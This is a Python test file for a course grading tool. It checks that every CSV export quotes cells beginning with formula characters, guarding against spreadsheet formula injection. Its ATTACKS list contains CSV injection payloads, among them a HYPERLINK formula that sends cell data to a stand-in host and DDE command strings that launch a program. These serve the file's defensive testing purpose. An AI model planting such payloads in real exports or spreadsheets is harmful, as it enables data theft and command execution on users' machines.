"""CSV injection: no cell of any CSV the grader writes starts a spreadsheet formula (OWASP's rule).

The grader's CSV files hold what students control: folder names, notebook names, error text. A
spreadsheet runs a cell that begins with =, +, -, @, a tab or a carriage return as a formula; each such
cell is written with a quote in front, and the grader's own sheets read back what the TA typed.
"""

import csv
import io

import pytest
from hypothesis import example, given, strategies as st

from course_utils.grading import csvsafe, exports, gradebook, manual

ATTACKS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1"]


def cells(text):
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def formula_cells(text):
    """The cells of ``text`` a spreadsheet would run: starting with a formula character, and not a number."""
    return [c for c in cells(text) if c.startswith(csvsafe.FORMULA_START) and not csvsafe.NUMBER.fullmatch(c)]


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_formula_cell_is_written_as_text(attack):
    assert formula_cells(csvsafe.text([["student", attack]])) == []
    assert cells(csvsafe.text([[attack]])) == ["'" + attack.replace("\r", "\n")]   # a CR inside a cell becomes LF


def test_a_carriage_return_never_ends_a_row():
    rows = list(csv.reader(io.StringIO(csvsafe.text([["a\rb", "c"], ["d\r\ne", "f"]]))))
    assert rows == [["a\nb", "c"], ["d\ne", "f"]]


@pytest.mark.parametrize("number", ["-2", "+3", "-0.5", "1e-3", "-1.5E+2", "0"])
def test_numbers_are_left_as_they_are(number):
    assert cells(csvsafe.text([[number]])) == [number]


@given(st.text() | st.builds("".join, st.lists(st.sampled_from(["'", "=", "-", "1", "x", "\t"]))))
@example("'=")
def test_restore_undoes_neutral_for_any_text(value):
    assert csvsafe.restore(csvsafe.neutral(value)) == value
    written = csvsafe.text([[value, "x"]])
    assert not formula_cells(written)
    assert [row[1] for row in csv.reader(io.StringIO(written))] == ["x"]        # one row, whatever the text


def _record(student, homework, error="", status="correct"):
    questions = [{"function": "softmax", "score": 1.0, "points": 2.0, "status": status}]
    return gradebook.totals({"student": student, "homework": homework, "questions": questions, "written": [],
                             "error": error})


def test_every_export_neutralises_what_students_control():
    """Student folder, notebook (homework) name and error text, with a roster that names them too."""
    records = [_record(attack, "hw1" if i % 2 else attack, error=attack, status=attack)
               for i, attack in enumerate(ATTACKS)]
    roster = {attack: {"first_name": attack, "last_name": attack, "email": attack, "student_id": attack}
              for attack in ATTACKS}
    files = exports.tables(records, roster)
    assert set(files) == {"gradebook.csv", "students.csv", "canvas.csv", "moodle.csv"}
    for name, text in files.items():
        assert formula_cells(text) == [], name
        assert any(c.startswith("'=HYPERLINK") for c in cells(text)), name      # kept, as text


def test_a_comment_the_ta_typed_survives_the_sheet_round_trip(tmp_path):
    """A comment starting with '-' (or '=') is written quoted and read back exactly as typed."""
    sheet = tmp_path / "q.csv"
    typed = {"A1": ("1", "- sign lost in line 2"), "B2": ("2", "=correct, well argued"), "C3": ("0", "plain")}
    sheet.write_text(csvsafe.text([list(manual.SHEET)] + [[code, "2", pts, comment]
                                                          for code, (pts, comment) in typed.items()]))
    assert formula_cells(sheet.read_text()) == []
    read = manual.read_sheet(sheet)
    assert {code: (row["points"], row["comment"]) for code, (_, row) in read.items()} == typed
